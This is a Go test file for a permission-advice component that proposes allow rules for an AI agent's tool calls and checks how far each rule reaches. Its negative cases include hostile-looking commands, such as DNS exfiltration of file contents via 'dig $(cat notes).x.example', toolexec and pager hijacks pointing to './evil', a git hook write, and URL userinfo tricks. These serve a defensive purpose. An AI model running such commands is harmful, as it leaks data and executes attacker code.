package advice_test

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"sekisho/backend/advice"
	"sekisho/backend/permission"
	"sekisho/backend/policy"
	"sekisho/backend/risk"
	"sekisho/backend/rulestest"
)

// pastCall is a call of a tool, judged as the desk judges it; the server or folder "" is none.
func pastCall(server, tool, cwd, input string) permission.PastCall {
	c := permission.PastCall{ToolName: tool, Input: json.RawMessage(input), Answer: permission.AnswerApproved, At: 1}
	if server != "" {
		c.ServerID = &server
	}
	if cwd != "" {
		c.Cwd = &cwd
	}
	c.Risk, _ = risk.Judge(risk.Call{Tool: tool, Server: server, Input: c.Input, Cwd: cwd})
	return c
}

// offered writes choices as their words, one a line; that which is offered first has a star.
func offered(list []advice.Proposal) string {
	var b strings.Builder
	for _, p := range list {
		if p.First {
			b.WriteString("* ")
		}
		b.WriteString(p.Covers.Text + "\n")
	}
	return b.String()
}

// TestChoicesFromNarrowToWide: what is offered for a call, in words.
func TestChoicesFromNarrowToWide(t *testing.T) {
	for _, tt := range []struct{ name, server, tool, cwd, input, want string }{
		{"reading", "sh", "bash", "/w/app", `{"command":"git status && git log -1"}`, `
			git status, git log by bash on sh, in /w/app, as long as it only reads
			* commands that only read, by bash on sh, in /w/app, as long as it only reads
			git status, git log by bash on sh, as long as it only reads
			commands that only read, by bash on sh, as long as it only reads`},
		{"asking the network", "sh", "bash", "/w/app", `{"command":"kubectl get pods | head"}`, `
			kubectl get by bash on sh, in /w/app, up to medium risk
			* commands that only read or ask the network, by bash on sh, in /w/app, up to medium risk
			kubectl get by bash on sh, up to medium risk
			commands that only read or ask the network, by bash on sh, up to medium risk`},
		{"changing", "", "Bash", "/w/app", `{"command":"git add -A && git commit -m x","description":"d"}`, `
			git add, git commit by Bash, in /w/app, up to medium risk
			* git add, git commit, git init, git switch, git fetch, git pull by Bash, in /w/app, up to medium risk
			git add, git commit by Bash, up to medium risk`},
		{"a host", "", "Bash", "/w/app", `{"command":"curl -s http://localhost:8080/health"}`, `
			* curl by Bash, at localhost, in /w/app, up to medium risk
			curl by Bash, at localhost, up to medium risk`},
		{"an unknown program, word for word", "", "Bash", "/w/app", `{"command":"frobnicate silence query x"}`, `
			* frobnicate silence query x by Bash, in /w/app, up to medium risk
			frobnicate silence query x by Bash, up to medium risk`},
		{"in a home", "", "Bash", "/home/me", `{"command":"ls"}`, `
			* ls by Bash, in /home/me, as long as it only reads
			ls by Bash, as long as it only reads
			commands that only read, by Bash, as long as it only reads`},
		{"nowhere", "sh", "bash", "", `{"command":"git status"}`, `
			* git status by bash on sh, as long as it only reads
			commands that only read, by bash on sh, as long as it only reads`},
		{"high", "sh", "bash", "/w", `{"command":"git push"}`, ""},
		{"opaque", "sh", "bash", "/w", `{"command":"$X"}`, ""},
		{"code", "sh", "bash", "/w", `{"command":"python3 -c 'print(1)'"}`, `
			* exactly this line, by bash on sh, in /w, up to medium risk`},
		{"a program that lies elsewhere", "sh", "bash", "/w", `{"command":"./run"}`, `
			* exactly this line, by bash on sh, in /w, up to medium risk`},
		{"a tool that says that it reads", "hub", "get_issue", "/w", `{"number":7}`, `
			get_issue on hub, up to medium risk
			* tools on hub whose names say that they only read, up to medium risk`},
		{"a tool that may show what is secret", "hub", "get_secret", "/w", `{"name":"a"}`, `
			* get_secret on hub, up to medium risk`},
		{"what nobody knows beside a line", "sh", "bash", "/w", `{"command":"ls","shape":{"a":1}}`, ""},
		{"a script", "sh", "run", "/w", `{"script":"ls"}`, ""},

		{"a file of the project", "", "Edit", "/w/app", `{"file_path":"/w/app/src/a.go","old_string":"a","new_string":"b"}`, `
			* Edit, on files in /w/app, up to medium risk
			Edit, up to medium risk`},
		{"a file elsewhere", "", "Read", "/w/app", `{"file_path":"/var/log/app/x.log"}`, `
			* Read, on files in /var/log/app, up to medium risk
			Read, up to medium risk`},
		{"a file in a home", "fs", "read_file", "", `{"path":"/home/me/notes.md"}`, `
			* read_file on fs, on /home/me/notes.md, up to medium risk
			read_file on fs, up to medium risk`},
		{"a file that is read", "", "Grep", "/w/app", `{"pattern":"x","path":"/w/app/src"}`, `
			Grep, on files in /w/app, up to medium risk
			* "Grep, LS, NotebookRead, Read", on files in /w/app, up to medium risk
			Grep, up to medium risk`},
		{"a reading tool with members that nobody knows", "", "Grep", "/w/app", `{"pattern":"x","path":"/w/app/src","replace":"y"}`, `
			* Grep, on files in /w/app, up to medium risk
			Grep, up to medium risk`},
		{"the web", "", "WebSearch", "/w/app", `{"query":"x"}`, `
			* WebSearch, up to medium risk`},
		{"no file", "", "Glob", "/w/app", `{"pattern":"**/*.go"}`, `
			* Glob, in /w/app, up to medium risk
			Glob, up to medium risk`},
		{"a site", "", "WebFetch", "/w/app", `{"url":"https://go.dev/doc/x","prompt":"?"}`, `
			* WebFetch, at go.dev, up to medium risk
			WebFetch, up to medium risk`},
		{"a tool", "jira", "get_issue", "/w/app", `{"key":"X-1"}`, `
			get_issue on jira, up to medium risk
			* tools on jira whose names say that they only read, up to medium risk`},
		{"a query that reads", "db", "query", "", `{"sql":"select 1"}`, `
			* query on db, up to medium risk`},
		{"a query that changes", "db", "query", "", `{"sql":"update a set b = 1 where c = 2"}`, ""},
	} {
		want := strings.TrimLeft(strings.ReplaceAll(tt.want, "\t", ""), "\n")
		if want != "" {
			want += "\n"
		}
		call := pastCall(tt.server, tt.tool, tt.cwd, tt.input)
		list := advice.Choices(policy.Compile(nil, 0), call, nil, rulestest.Now)
		if got := offered(list); got != want {
			t.Errorf("%s:\n%swant\n%s", tt.name, got, want)
		}
		for _, p := range list {
			if !allows(policy.Compile([]permission.Rule{p.Rule}, 0), call) {
				t.Errorf("%s is not allowed by %s", tt.input, *p.Rule.Condition)
			}
		}
	}
}

// TestChoicesReachAsFarAsTheySay holds the first choice for a call against calls that it
// covers, and that it does not.
func TestChoicesReachAsFarAsTheySay(t *testing.T) {
	for _, tt := range []struct {
		server, tool, input string
		at                  int
		yes, no             []string
	}{
		{"sh", "bash", `{"command":"git status && npm test"}`, 0,
			[]string{`{"command":"git status -s"}`, `{"command":"npm test && git status; npm test","timeout":5}`,
				`{"command":"cd src && git status"}`,
				`{"command":"git status | head","description":"look"}`},
			[]string{`{"command":"git log"}`, `{"command":"git status && npm publish"}`, `{"command":"npm test > /etc/x"}`,
				`{"command":"cd / && git status"}`,
				`{"command":"git -C /other status"}`, `{"command":"git status","workdir":"/other"}`, `{"command":"git status","sandbox":"none"}`,
				`{"command":"git status --unknown-option"}`, `{"command":"npm test --prefix /other"}`}},
		{"sh", "bash", `{"command":"git status"}`, 1,
			[]string{`{"command":"ls -la && cat README.md | wc -l"}`, `{"command":"git log -3"}`},
			[]string{`{"command":"cat ../x"}`, `{"command":"cat /etc/hosts"}`, `{"command":"npm test"}`,
				`{"command":"curl http://x.example"}`, `{"command":"find . -delete"}`,
				`{"command":"cd /etc && ls"}`}},
		{"sh", "bash", `{"command":"kubectl get pods"}`, 1,
			[]string{`{"command":"kubectl describe pod x"}`, `{"command":"terraform plan; ls"}`},
			[]string{`{"command":"kubectl delete pod x"}`, `{"command":"curl http://x.example"}`, `{"command":"npm test"}`,
				`{"command":"kubectl get x > y"}`,
				`{"command":"dig $(cat notes).x.example"}`}},
		{"sh", "bash", `{"command":"psql -c 'select 1'"}`, 0,
			[]string{`{"command":"psql -c 'select a from b'"}`},
			[]string{`{"command":"psql -c 'update a set b = 1 where c = 2'"}`, `{"command":"psql -f x.sql"}`}},
		{"sh", "bash", `{"command":"frobnicate silence query --x"}`, 0, []string{`{"command":"frobnicate silence query --x"}`},
			[]string{`{"command":"frobnicate silence expire 1"}`, `{"command":"frobnicate silence query"}`}},
		{"sh", "bash", `{"command":"frobnicate conf/a.yml"}`, 0, []string{`{"command":"frobnicate conf/b.yml"}`},
			[]string{`{"command":"frobnicate ../a.yml"}`, `{"command":"frobnicate -f conf/b.yml"}`, `{"command":"frobnicate /etc/b.yml"}`,
				`{"command":"frobnicate conf/a.yml x"}`}},
		{"sh", "bash", `{"command":"ssh h 'uptime'"}`, 0, []string{`{"command":"ssh h 'uptime; uptime'"}`},
			[]string{`{"command":"ssh g 'uptime'"}`, `{"command":"ssh h 'docker restart x'"}`, `{"command":"ssh h"}`}},
		{"sh", "bash", `{"command":"tail -5 /var/log/app/x"}`, 0, []string{`{"command":"tail -9 /var/log/app/y src/z"}`},
			[]string{`{"command":"tail /var/log/x"}`, `{"command":"tail /home/me/x"}`}},
		{"sh", "bash", `{"command":"curl -s http://localhost:1/a"}`, 0, []string{`{"command":"curl http://localhost:2/b"}`},
			[]string{`{"command":"curl http://localhost.example/"}`, `{"command":"curl http://localhost:1@x.example/"}`,
				`{"command":"curl x.example"}`,
				`{"command":"curl http://localhost/ http://x.example"}`}},
		{"", "Edit", `{"file_path":"src/a.go"}`, 0, []string{`{"file_path":"/w/app/b","new_string":"x"}`},
			[]string{`{"file_path":"../b"}`, `{"file_path":"/w/application"}`, `{"file_path":"~/b"}`, `{}`, `{"file_path":"b","command":"ls"}`}},
		{"", "WebFetch", `{"url":"https://go.dev/a"}`, 0, []string{`{"url":"http://go.dev:80/b"}`},
			[]string{`{"url":"https://go.dev.example"}`, `{"url":"https://x@go.dev"}`, `{"url":"https://example/go.dev"}`}},
		{"db", "query", `{"sql":"select 1"}`, 0, []string{`{"sql":"select a from b"}`},
			[]string{`{"sql":"update a set b = 1 where c = 2"}`, `{"sql":"select 1; insert into a values (1)"}`, `{"code":"1","sql":"select 1"}`}},
		{"sh", "bash", `{"command":"python train.py --folds 5 --out runs/a.txt"}`, 0,
			[]string{`{"command":"python train.py --folds 10 --out runs/b.txt"}`, `{"command":"SEEDS=3 python train.py --folds 5 --out runs/a.txt"}`},
			[]string{`{"command":"python train.py --folds 5 --out /tmp/b"}`, `{"command":"python train.py --folds 5 --out runs/a.txt --live"}`,
				`{"command":"python train.py --folds all --out runs/a.txt"}`, `{"command":"python train.py --folds 5 --out ../b.txt"}`,
				`{"command":"python push.py --folds 5 --out runs/a.txt"}`, `{"command":"PYTHONINSPECT=1 python train.py --folds 5 --out runs/a.txt"}`}},
		{"sh", "bash", `{"command":"sed -i s/a/b/ data/x.csv"}`, 0, []string{`{"command":"sed -i 's/[cd] *$//' data/y.csv"}`},
			[]string{`{"command":"sed -i s/a/b/ /srv/x"}`, `{"command":"sed -i.bak s/a/b/ data/x.csv"}`, `{"command":"sed -i 's/a/b/e' data/x.csv"}`,
				`{"command":"sed -i s/a/b/ .git/config"}`, `{"command":"sed -i -f s.sed data/x.csv"}`, `{"command":"sed --in-place=/srv/* s/a/b/ data/x"}`}},
		{"sh", "bash", `{"command":"jupyter nbconvert --execute --inplace a.ipynb"}`, 0,
			[]string{`{"command":"jupyter nbconvert --execute --to notebook --inplace a.ipynb"}`},
			[]string{`{"command":"jupyter nbconvert --execute --inplace b.ipynb"}`, `{"command":"jupyter nbconvert --execute --output-dir=/srv a.ipynb"}`,
				`{"command":"jupyter run a.ipynb"}`, `{"command":"jupyter nbconvert --execute --ExecutePreprocessor.kernel_name=x a.ipynb"}`}},
		{"sh", "bash", `{"command":"sqlfluff fix a.sql"}`, 1, []string{`{"command":"sqlfluff lint b.sql"}`},
			[]string{`{"command":"sqlfluff lint --config /x/c b.sql"}`, `{"command":"sqlfluff rules"}`}},
		{"sh", "bash", `{"command":"bq query --use_legacy_sql=false 'select 1'"}`, 1,
			[]string{`{"command":"bq ls d"}`, `{"command":"psql -c 'select 1'"}`},
			[]string{`{"command":"bq query 'delete from d.t where true'"}`, `{"command":"bq query --destination_table=d.t 'select 1'"}`,
				`{"command":"bq ls gs://b"}`, `{"command":"bq rm -t d.t"}`}},
		{"", "Read", `{"file_path":"/w/app/a"}`, 1, []string{`{"file_path":"b"}`},
			[]string{`{"file_path":"/w/b"}`, `{"file_path":"a","path":"/srv"}`, `{"file_path":"a","to":"b"}`, `{"file_path":["a"]}`,
				`{"path":".git/x"}`,
				`{"file_path":"a","command":"ls"}`}},
		{"", "WebSearch", `{"query":"a"}`, 0, []string{`{"query":"b"}`}, []string{`{"query":"b","path":"/x"}`, `{"url":"https://x.example"}`}},
		{"ml", "get_run", `{"id":"a"}`, 1, []string{`{"id":"b"}`}, []string{`{"id":"b","path":"/x"}`}},
		{"x", "editor", `{"command":"view","path":"a"}`, 0, nil, []string{`{"command":"create","path":"a"}`, `{"command":"ls"}`}},
	} {
		list := advice.Choices(policy.Compile(nil, 0), pastCall(tt.server, tt.tool, "/w/app", tt.input), nil, rulestest.Now)
		if len(list) <= tt.at {
			t.Errorf("%s: %d choices", tt.input, len(list))
			continue
		}
		set := policy.Compile([]permission.Rule{list[tt.at].Rule}, 0)
		for want, inputs := range map[bool][]string{true: tt.yes, false: tt.no} {
			for _, input := range inputs {
				if allows(set, pastCall(tt.server, tt.tool, "/w/app", input)) != want {
					t.Errorf("%s: want %v by %s", input, want, *list[tt.at].Rule.Condition)
				}
			}
		}
		if tt.tool == "bash" && allows(set, pastCall(tt.server, tt.tool, "/w/other", tt.input)) {
			t.Errorf("%s: allowed in another folder", tt.input)
		}
	}
}

// TestChoicesHaveTheirPlace: the priority of a choice, and what keeps it from being made.
func TestChoicesHaveTheirPlace(t *testing.T) {
	for _, tt := range []struct{ name, rules, tool, want string }{
		{"no rule", `[]`, "x", "10"},
		{"above the rule that asks", `[{"id":"a","priority":7}]`, "x", "8"},
		{"above the first that asks", `[{"id":"a"},{"id":"b","toolName":"x","priority":50}]`, "x", "51"},
		{"no room above it", `[{"id":"a","priority":2147483647}]`, "x", ""},
		{"denied", `[{"id":"a","effect":"deny"}]`, "x", ""},
		{"denied, were it not for one that asks", `[{"id":"a","effect":"deny"},{"id":"b","priority":3}]`, "x", ""},
		{"denied if the condition holds, and it fails",
			`[{"id":"a","effect":"deny","condition":"input.nothing == 1"},{"id":"b","priority":3}]`, "x", ""},
		{"a deny rule that is off and one that is over",
			`[{"id":"a","effect":"deny","enabled":false},{"id":"b","effect":"deny","expiresAt":"1970-01-01T00:00:00.001Z"}]`, "x", "10"},
		{"a deny rule for others", `[{"id":"a","effect":"deny","toolPattern":"delete_*","priority":4}]`, "write_x", "10"},
		{"a deny rule for others, and reading tools below it", `[{"id":"a","effect":"deny","toolPattern":"delete_*","priority":4}]`, "read_x", "103"},
		{"a deny rule for other inputs",
			`[{"id":"a","effect":"deny","toolName":"x","condition":"has(input.evil)","priority":4},{"id":"b","priority":4}]`, "x", ""},
		{"and one that comes first",
			`[{"id":"a","effect":"deny","toolName":"x","condition":"has(input.evil)","priority":6},{"id":"b","priority":4}]`, "x", "5"},
		{"a deny rule of another server", `[{"id":"a","effect":"deny","serverId":"other","priority":4},{"id":"b","priority":4}]`, "x", "5"},
		{"what asks about others, and comes first", `[{"id":"a","toolPattern":"delete_*","priority":100},{"id":"b"}]`, "write_x", "1"},
		{"ids that are taken", `[{"id":"widened","toolName":"y","effect":"allow"},{"id":"widened.","toolName":"z","effect":"allow"}]`, "x", "10"},
		{"a bad name", `[]`, "read\u200b_file", ""},
	} {
		call := pastCall("fs", tt.tool, "", `{}`)
		call.Risk = permission.RiskMedium
		got := ""
		for _, p := range advice.Choices(rulestest.Set(t, tt.rules), call, nil, rulestest.Now) {
			got += fmt.Sprint(p.Rule.Priority)
		}
		if got != tt.want {
			t.Errorf("%s: priorities %q, want %q", tt.name, got, tt.want)
		}
	}
	held := rulestest.Set(t, `[]`).Doubting(permission.Said("hold"))
	if got := advice.Choices(held, pastCall("fs", "x", "", `{}`), nil, rulestest.Now); got == nil || len(got) != 0 {
		t.Errorf("under doubt: %v", got)
	}
}

// TestChoicesCountThePast: how many calls each would have matched, and how those were answered.
func TestChoicesCountThePast(t *testing.T) {
	var past []permission.PastCall
	add := func(answer permission.PastAnswer, at permission.Time, input string) {
		c := pastCall("sh", "bash", "/w/app", input)
		c.Answer, c.At = answer, at
		past = append(past, c)
	}
	add(permission.AnswerApproved, 5, `{"command":"npm test"}`)
	add(permission.AnswerDeclined, 3, `{"command":"npm test && git status"}`)
	add(permission.AnswerAllowed, 9, `{"command":"git status"}`)
	add(permission.AnswerOther, 4, `{"command":"npm test"}`)
	add(permission.AnswerApproved, 1, `{"command":"git push"}`)
	add(permission.AnswerApproved, 1, `{"command":"ls"}`)
	past = append(past, pastCall("sh", "bash", "/w", `{"command":"npm test"}`), pastCall("other", "bash", "/w/app", `{"command":"npm test"}`))
	past[7].Input = nil
	call := pastCall("sh", "bash", "/w/app", `{"command":"npm test && git status"}`)
	list := advice.Choices(policy.Compile(nil, 0), call, past, rulestest.Now)
	want := permission.Matches{Calls: 4, Approved: 1, Declined: 1, Allowed: 1, Other: 1, MaxRisk: permission.RiskMedium, First: 3, Last: 9}
	if len(list) < 3 || list[0].Past != want || fmt.Sprint(list[0].Calls) != "[0 1 2 3]" || list[2].Past.Calls != 5 {
		t.Errorf("%+v", list)
	}
	if !list[0].First {
		t.Errorf("a choice that would have matched a declined call is offered first: %+v", list[1])
	}
	nothing := advice.Choices(policy.Compile(nil, 0), pastCall("sh", "bash", "/x", `{"command":"ls"}`), nil, rulestest.Now)
	if len(nothing) == 0 || nothing[0].Past != (permission.Matches{MaxRisk: permission.RiskLow}) {
		t.Errorf("%+v", nothing)
	}
}

// TestFirstChoicesReach holds what is offered first against calls that it covers, and that it
// does not: commands of one work, the very line, reading tools and buckets.
func TestFirstChoicesReach(t *testing.T) {
	for _, tt := range []struct {
		server, tool, input string
		yes, no             []string
	}{
		{"sh", "bash", `{"command":"go test ./... -run TestA -v"}`,
			[]string{`{"command":"go test ./a"}`, `{"command":"go vet ./... && golangci-lint run ./..."}`, `{"command":"cd sub && go build -o bin/x ./cmd/x"}`},
			[]string{`{"command":"go test -exec ./evil ./..."}`, `{"command":"go run ./cmd/x"}`, `{"command":"go build -o /w/other/x ./cmd/x"}`,
				`{"command":"go vet -vettool=./evil ./..."}`, `{"command":"cd .. && go test ./..."}`, `{"command":"GOFLAGS=-toolexec=./evil go test"}`,
				`{"command":"go test ./... > /w/other/x"}`, `{"command":"go test -unknown ./..."}`, `{"command":"go install x.example/evil@latest"}`}},
		{"sh", "bash", `{"command":"git add -A && git commit -m 'a: b'"}`,
			[]string{`{"command":"git add src && git commit -am \"other words\""}`, `{"command":"git pull --rebase"}`},
			[]string{`{"command":"git commit --amend -m x"}`, `{"command":"git commit --no-verify -m x"}`, `{"command":"git add -f .env.local"}`,
				`{"command":"git push"}`, `{"command":"git reset --hard"}`, `{"command":"git checkout ."}`, `{"command":"git -C /w/other commit -m x"}`,
				`{"command":"git commit -m x > .git/hooks/pre-commit"}`, `{"command":"git -c core.pager=evil commit -m x"}`}},
		{"sh", "bash", `{"command":"python3 -c 'print(1)'"}`, []string{`{"command":"python3 -c 'print(1)'","timeout":5}`},
			[]string{`{"command":"python3 -c 'print(2)'"}`, `{"command":"python3 -c 'print(1)' ; ls"}`, `{"command":"python3 -c 'print(1)'","workdir":"/x","args":["a"]}`}},
		{"sh", "bash", `{"command":"aws s3 ls s3://logs/2026/"}`, []string{`{"command":"aws s3 ls s3://logs"}`},
			[]string{`{"command":"aws s3 ls s3://logs-of-others/"}`, `{"command":"aws s3 ls s3://logs/ https://x.example"}`, `{"command":"aws s3 rm s3://logs/a"}`}},
	} {
		set := policy.Compile([]permission.Rule{firstChoice(t, nil, pastCall(tt.server, tt.tool, "/w/app", tt.input))}, 0)
		for want, inputs := range map[bool][]string{true: append(tt.yes, tt.input), false: tt.no} {
			for _, input := range inputs {
				if allows(set, pastCall(tt.server, tt.tool, "/w/app", input)) != want {
					t.Errorf("%s: want %v of %s", tt.input, want, input)
				}
			}
		}
		if allows(set, pastCall(tt.server, tt.tool, "/w/other", tt.input)) {
			t.Errorf("%s: allowed in another folder", tt.input)
		}
	}
	reading := policy.Compile([]permission.Rule{firstChoice(t, nil, pastCall("hub", "get_issue", "/w", `{"number":7}`))}, 0)
	for tool, want := range map[string]bool{"list_tags": true, "search-code": true, "get_issue_comments": true, "get_secret": false,
		"get_api_key": false, "merge": false, "forget": false, "read_query": false, "get_run": true, "list_runs": true,
		"read_run_script": false, "getRunner": false, "find_runs_now": false, "getaway; rm": false, "getaway": false,
		"get_or_create": false, "findOneAndUpdate": false, "getIssue": true, "delete_issue": false} {
		if allows(reading, pastCall("hub", tool, "/w", `{"number":7}`)) != want {
			t.Errorf("%s: want %v", tool, want)
		}
	}
	for _, other := range []permission.PastCall{
		pastCall("hub", "list_tags", "/w", `{"command":"rm -rf x"}`),
		pastCall("hub", "read_file", "/w", `{"path":"/home/me/letter"}`),
		pastCall("other", "list_tags", "/w", `{}`),
	} {
		if allows(reading, other) {
			t.Errorf("%s %s is allowed", *other.ServerID, other.Input)
		}
	}
}

// TestTheFolderOfProjects is offered first after the same was allowed in a project beside.
func TestTheFolderOfProjects(t *testing.T) {
	for _, tt := range []struct{ tool, first, second, no string }{
		{"Bash", `{"command":"go test ./..."}`, `{"command":"go test ./..."}`, `{"command":"go run ./x"}`},
		{"Bash", `{"command":"ls"}`, `{"command":"ls"}`, `{"command":"rm x"}`},
		{"Edit", `{"file_path":"/home/me/src/a/x"}`, `{"file_path":"/home/me/src/b/y"}`, `{"file_path":"/home/me/src/b/.git/config"}`},
		{"Task", `{"prompt":"a"}`, `{"prompt":"b"}`, `{"prompt":"b","path":"/x"}`},
	} {
		one := firstChoice(t, nil, pastCall("", tt.tool, "/home/me/src/a", tt.first))
		one.ID = "one"
		elsewhere := one
		elsewhere.ServerID = new("other")
		own := firstChoice(t, []permission.Rule{elsewhere}, pastCall("", tt.tool, "/home/me/src/b", tt.second))
		inThird := pastCall("", tt.tool, "/home/me/src/c", strings.ReplaceAll(tt.second, "/src/b/", "/src/c/"))
		if allows(policy.Compile([]permission.Rule{own}, 0), inThird) {
			t.Errorf("%s %s: a rule of another server counts: %s", tt.tool, tt.second, *own.Condition)
		}
		two := firstChoice(t, []permission.Rule{one}, pastCall("", tt.tool, "/home/me/src/b", tt.second))
		set := policy.Compile([]permission.Rule{two}, 0)
		third := strings.ReplaceAll(tt.second, "/src/b/", "/src/c/")
		if !allows(set, pastCall("", tt.tool, "/home/me/src/c", third)) {
			t.Errorf("%s %s: not allowed in a third project by %s", tt.tool, tt.second, *two.Condition)
		}
		outside := pastCall("", tt.tool, "/home/me/other", strings.ReplaceAll(third, "/src/c/", "/other/"))
		if allows(set, outside) || allows(set, pastCall("", tt.tool, "/home/me/src/c", tt.no)) {
			t.Errorf("%s %s: too much is allowed by %s", tt.tool, tt.second, *two.Condition)
		}
		// Not of projects that lie in a home, or under /tmp.
		for _, folder := range []string{"/home/", "/tmp/"} {
			in := func(text, project string) string {
				return strings.NewReplacer("/home/me/src/a", folder+project, "/home/me/src/b", folder+project).Replace(text)
			}
			one := firstChoice(t, nil, pastCall("", tt.tool, folder+"a", in(tt.first, "a")))
			one.ID = "one"
			if allows(policy.Compile([]permission.Rule{one}, 0), pastCall("", tt.tool, folder+"b", in(tt.second, "b"))) {
				continue // of a tool that names no file, as there is no folder to hold it to
			}
			two := firstChoice(t, []permission.Rule{one}, pastCall("", tt.tool, folder+"b", in(tt.second, "b")))
			if allows(policy.Compile([]permission.Rule{two}, 0), pastCall("", tt.tool, folder+"c", in(tt.second, "c"))) {
				t.Errorf("%s %s: %s is offered", tt.tool, folder, *two.Condition)
			}
		}
	}
}

// TestWhatIsAllowedBesideIt: the folder of projects is offered for a call that the rules allow in
// one of them, however they say so, and not for one that they do not.
func TestWhatIsAllowedBesideIt(t *testing.T) {
	made := func(id, project, line string) permission.Rule {
		r := firstChoice(t, nil, pastCall("", "Bash", "/home/me/src/"+project, `{"command":"`+line+`"}`))
		r.ID = permission.RuleID(id)
		return r
	}
	rules := []permission.Rule{made("1", "a", "rm x && rm -f y"), made("2", "a", "mkdir -p d && make check"), made("3", "d", "rm z")}
	for line, want := range map[string]bool{"rm x": true, "rm -f y": true, "mkdir -p q": true, "make check": true, "make lint": false,
		"mkdir q": true, "mkdir -v q": false, "touch q": false} {
		second := firstChoice(t, rules, pastCall("", "Bash", "/home/me/src/b", `{"command":"`+line+`"}`))
		third := pastCall("", "Bash", "/home/me/src/c", `{"command":"`+line+`"}`)
		if got := allows(policy.Compile([]permission.Rule{second}, 0), third); got != want {
			t.Errorf("%s: %v in a third project, want %v, by %s", line, got, want, *second.Condition)
		}
	}
}

// firstChoice is the rule that is offered first for a call beside some rules.
func firstChoice(t *testing.T, rules []permission.Rule, c permission.PastCall) permission.Rule {
	t.Helper()
	for _, p := range advice.Choices(policy.Compile(rules, 0), c, nil, rulestest.Now) {
		if p.First {
			return p.Rule
		}
	}
	t.Fatalf("nothing is offered for %s %s", c.ToolName, c.Input)
	return permission.Rule{}
}
